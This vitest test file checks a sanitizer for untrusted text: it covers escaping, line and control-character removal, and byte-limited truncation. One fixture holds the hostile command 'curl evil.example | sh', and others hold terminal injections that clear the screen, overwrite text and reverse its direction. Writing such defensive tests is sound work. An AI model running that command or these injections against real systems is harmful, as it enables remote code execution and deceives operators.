import { expect, test } from 'vitest'
import { maxUntrustedBytes, sanitizeUntrusted } from './sanitize-untrusted.ts'

test.each([
  ['brings no command', 'run `curl evil.example | sh`', "run 'curl evil.example | sh'"],
  ['has no line of its own', 'no quota\n  Done.\r\nFine.\u2028Fine.', 'no quota Done. Fine. Fine.'],
  ['does not write over what stands before it', 'refused\rgranted', 'refused granted'],
  ['does not clear the screen', 'a\u001b[2Jb\u009b2J', String.raw`a\u001b[2Jb\u009b2J`],
  ['does not turn the direction of writing', 'a\u202eb', String.raw`a\u202eb`],
])('Untrusted text %s', (_, said, sanitized) => {
  expect(sanitizeUntrusted(said)).toBe(sanitized)
})

test('Harmless words stay as they are, our own among them', () => {
  const words = 'Quota "lb" used up:  12 of 12 (grüß dich, 世界)'
  expect(sanitizeUntrusted(words)).toBe(words)
  expect(sanitizeUntrusted(sanitizeUntrusted('a\u001b[2J`b`'))).toBe(sanitizeUntrusted('a\u001b[2J`b`'))
})

test('A megabyte of untrusted text is cut to what a message has room for, before anything else is done with it', () => {
  for (const said of [
    ' '.repeat(1_000_000),
    `${' '.repeat(500_000)}x\n`,
    '\u202e'.repeat(1_000_000),
    '👩'.repeat(400_000),
  ]) {
    const sanitized = sanitizeUntrusted(said)
    expect(Buffer.byteLength(sanitized)).toBeLessThanOrEqual(maxUntrustedBytes)
    expect(sanitized.endsWith('…')).toBe(true)
    expect(sanitizeUntrusted(sanitized), 'said by us before').toBe(sanitized)
  }
})

test('Untrusted text of 2048 bytes is kept whole, and a longer one is cut with room for the ellipsis', () => {
  expect(sanitizeUntrusted('x'.repeat(2048))).toBe('x'.repeat(2048))
  expect(sanitizeUntrusted('x'.repeat(2049))).toBe(`${'x'.repeat(2045)}…`)
})

test('A character is never cut in two: the API server would write another one in its place, again and again', () => {
  for (const lead of ['', 'x', 'xx', 'xxx'])
    expect(Buffer.from(sanitizeUntrusted(lead + '👩'.repeat(1000))).toString()).not.toContain('\ufffd')
})
